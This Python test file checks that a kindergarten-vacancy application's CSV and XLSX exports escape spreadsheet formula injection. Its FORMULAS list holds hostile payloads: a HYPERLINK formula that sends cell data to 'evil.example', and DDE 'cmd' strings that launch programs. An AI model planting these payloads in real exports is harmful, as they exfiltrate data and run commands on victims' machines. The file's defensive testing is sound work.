"""Issue 14, item 3: no export writes typed text that a spreadsheet would run as a formula.

One helper (indigo/spreadsheet.py) for every export: the public protocol CSV, the department's
report CSV and XLSX, and the API's CSV error answer.
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from indigo.spreadsheet import csv_cell, is_formula_like
from tests.factories import GroupFactory, KindergartenFactory
from tests.vacancies.helpers import D, local
from vacancies.models import Kindergarten
from vacancies.protocol import protocol_csv, protocol_publish
from vacancies.reports import Report, report_csv, report_xlsx
from vacancies.services import seat_release, seat_withdraw

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_it_neutralises_every_formula_start():
    for text in FORMULAS:
        assert is_formula_like(text)
        assert csv_cell(text) == "'" + text
    for harmless in ("Балапан", "2024-06-03T18:00:00+05:00", "", "a=b", -5, 3.5, None):
        assert csv_cell(harmless) == harmless


@pytest.fixture
def formula_kindergarten(kindergarten_a):
    Kindergarten.objects.filter(pk=kindergarten_a.pk).update(name_ru=FORMULAS[0], name_kk=FORMULAS[0])
    return kindergarten_a


def test_it_neutralises_formulas_in_the_public_protocol_csv(db, city, formula_kindergarten, staff_a):
    group = GroupFactory(kindergarten=formula_kindergarten, cohort=2021, capacity=6)
    seat_release(group=group, count=1, at=local(D(2024, 5, 31), 9))
    protocol = protocol_publish(city=city, cutoff=local(D(2024, 5, 31), 18))
    response = APIClient().get(f"/api/v1/protocols/{protocol.pk}/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    # Row 1 is the hashed header (docs/protocol.md), row 2 the column names.
    names = {row[4] for row in rows[2:]}
    assert names == {"'" + FORMULAS[0]}
    assert not any(is_formula_like(cell) for row in rows for cell in row)
    assert response.content.decode() == protocol_csv(protocol)


def test_it_never_writes_a_typed_note_into_the_protocol_csv(db, city, kindergarten_a, staff_a):
    # Reasons are codes from a list (R-P-4, item 6): what staff type stays in the unpublished note.
    group = GroupFactory(kindergarten=kindergarten_a, cohort=2021, capacity=6)
    [seat] = seat_release(group=group, count=1, at=local(D(2024, 5, 31), 9))
    seat_withdraw(seat=seat, reason="other", note=FORMULAS[3], by=staff_a, at=local(D(2024, 5, 31), 10))
    protocol = protocol_publish(city=city, cutoff=local(D(2024, 5, 31), 18))
    rows = list(csv.reader(io.StringIO(protocol_csv(protocol))))
    # Row 1 is the hashed header (docs/protocol.md); column 15 is the reason.
    assert "other" in {row[14] for row in rows[1:]}
    assert not any(is_formula_like(cell) or "SUM" in cell for row in rows for cell in row)


def _hostile_report() -> Report:
    return Report(
        slug="test", columns=["=column", "kindergarten", "seats"], rows=[[f, "Балапан", -3] for f in FORMULAS]
    )


def test_it_neutralises_formulas_in_the_report_csv():
    text = report_csv(_hostile_report()).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=column", "kindergarten", "seats"]
    assert [row[0] for row in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [row[2] for row in rows[1:]] == ["-3"] * len(FORMULAS)  # numbers stay numbers


def test_it_neutralises_formulas_in_the_report_xlsx():
    workbook = load_workbook(io.BytesIO(report_xlsx(_hostile_report(), title="Test")))
    sheet = workbook.active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Stored as text: shown exactly as typed (XML reads a carriage return as a newline), never evaluated.
    assert [cell.value for cell in cells] == [f.replace("\r", "\n") for f in FORMULAS]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.cell(row=1, column=1).data_type == "s"
    assert {row[2].value for row in sheet.iter_rows(min_row=2)} == {-3}


def test_it_neutralises_formulas_in_the_department_report_download(client, officer, city):
    KindergartenFactory(district__city=city, name_ru=FORMULAS[0], name_kk=FORMULAS[0], name_en=FORMULAS[0])
    client.force_login(officer)
    for report in ("ownership", "queue", "seats"):
        response = client.get(f"/en/department/{city.slug}/reports/{report}/", {"format": "csv"})
        assert response.status_code == 200
        text = response.content.decode("utf-8").lstrip("\ufeff")
        assert not any(is_formula_like(cell) for row in csv.reader(io.StringIO(text)) for cell in row)
